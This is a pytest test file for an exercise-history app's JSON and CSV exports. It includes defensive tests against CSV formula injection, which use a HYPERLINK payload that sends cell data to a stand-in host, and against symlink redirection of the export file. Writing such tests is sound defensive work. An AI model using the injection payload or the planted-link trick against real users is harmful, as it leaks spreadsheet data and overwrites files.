"""Exports a clinician can open: the history as JSON, and one CSV row per set."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from store_samples import real_record

from kiosk.errors import StorageError
from kiosk.store.export import CSV_COLUMNS, FORMULA_STARTS, write_csv, write_file
from kiosk.store.history import MonthFile
from kiosk.store.records import decode, encode


def _history(tmp_path: Path) -> MonthFile:
    history = MonthFile.open(tmp_path)
    history.add(real_record("mon", "2026-11-23T09:00:00", pain_before=3, pain_after=2))
    history.add(real_record("tue", "2026-11-24T09:00:00"))
    return history


def test_json_export_holds_every_session_in_order(tmp_path: Path) -> None:
    out = io.StringIO()
    with _history(tmp_path) as history:
        history.export_json(out)
        sessions = history.sessions()
    exported = json.loads(out.getvalue())
    assert exported == {"schema": 1, "sessions": [encode(s) for s in sessions]}
    assert [s["id"] for s in exported["sessions"]] == ["mon", "tue"]


def test_csv_export_has_one_row_per_set(tmp_path: Path) -> None:
    out = io.StringIO(newline="")
    with _history(tmp_path) as history:
        history.export_csv(out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    monday = [r for r in rows if r["id"] == "mon"]
    assert {r["record"] for r in rows} == {"session"}
    # bridge: 2 sets; side plank: 1 set (left) stopped by pain; dead bug: skipped, no sets
    assert [(r["family"], r["set"], r["side"], r["reps"], r["set_ended_by"]) for r in monday] == [
        ("bridge", "1", "", "CC", "target"),
        ("bridge", "2", "", "CS", "fray"),
        ("side-plank", "1", "left", "C", "pain"),
        ("dead-bug", "", "", "", ""),
    ]
    first = monday[0]
    assert (first["date"], first["pain_before"], first["pain_after"]) == ("2026-11-23", "3", "2")
    assert (first["session_ended_by"], first["variation"], first["target"]) == (
        "complete",
        "bridge-1",
        "2",
    )
    assert (first["change"], first["reason"], first["clean_reps"]) == (
        "advance",
        "Two clean sets last time",
        "2",
    )
    assert monday[3]["skipped"] == "yes"
    assert len(rows) == 8


# --- safety: formulas, and where the file goes (issue #9) -------------------------------------
def _exported_csv(sessions: list[dict[str, Any]]) -> list[list[str]]:
    out = io.StringIO(newline="")
    write_csv([decode(s) for s in sessions], out)  # what the codec accepts, and only that
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


_any_text = st.text(st.characters(codec="utf-8"), min_size=1, max_size=12)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(id_=_any_text, family=_any_text, name=st.text(max_size=12), reason=st.text(max_size=12),
       change=st.text(max_size=12), side=st.none() | _any_text)
def test_no_csv_cell_ever_starts_a_formula(
    id_: str, family: str, name: str, reason: str, change: str, side: str | None
) -> None:
    """For any history the codec accepts, a spreadsheet reading the CSV finds no formula."""
    record = encode(real_record())
    record["id"] = id_
    for ex in record["exercises"]:
        ex.update(family=family, variation=family, name=name, reason=reason, change=change)
        for s in ex["sets"]:
            s["side"] = side
    for row in _exported_csv([record]):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row


def test_a_formula_keeps_its_text_behind_a_quote() -> None:
    record = encode(real_record())
    record["exercises"][0]["reason"] = '=HYPERLINK("http://x/?"&A1,"Bridge")'
    rows = _exported_csv([record])
    reason = rows[1][CSV_COLUMNS.index("reason")]
    assert reason == '\'=HYPERLINK("http://x/?"&A1,"Bridge")'


def test_an_export_file_is_private_and_replaces_a_link_not_its_target(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "export.csv"
    out.symlink_to(victim)
    write_file(out, lambda fp: fp.write("a,b\r\n"))
    assert victim.read_text() == "keep me"
    assert not out.is_symlink() and out.read_text() == "a,b\n"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv", "victim.txt"]


def test_a_link_planted_at_the_temp_name_cannot_redirect_the_export(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "export.csv"
    planted = tmp_path / f".export.csv.{os.getpid()}.tmp"
    planted.symlink_to(victim)
    # The temporary file has a random name now (issue 29): the planted link is never used.
    write_file(out, lambda fp: fp.write("data"))
    assert victim.read_text() == "keep me" and out.read_text() == "data"
    assert planted.is_symlink() and stat.S_IMODE(out.stat().st_mode) == 0o600


@pytest.mark.parametrize("where", ["folder", "missing folder", "fifo", "empty"])
def test_a_bad_out_is_refused_in_words_and_leaves_nothing(tmp_path: Path, where: str) -> None:
    out = {"folder": tmp_path, "missing folder": tmp_path / "no" / "x.csv",
           "fifo": tmp_path / "pipe", "empty": Path("")}[where]
    if where == "fifo":
        os.mkfifo(out)
    before = sorted(tmp_path.iterdir())
    with pytest.raises(StorageError) as err:
        write_file(out, lambda fp: fp.write("x"))
    assert "\n" not in str(err.value) and ("--out" in str(err.value) or "folder" in str(err.value))
    assert sorted(tmp_path.iterdir()) == before


def test_a_failed_export_leaves_no_temp_file(tmp_path: Path) -> None:
    def broken(fp: Any) -> None:
        fp.write("half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        write_file(tmp_path / "x.csv", broken)
    assert list(tmp_path.iterdir()) == []
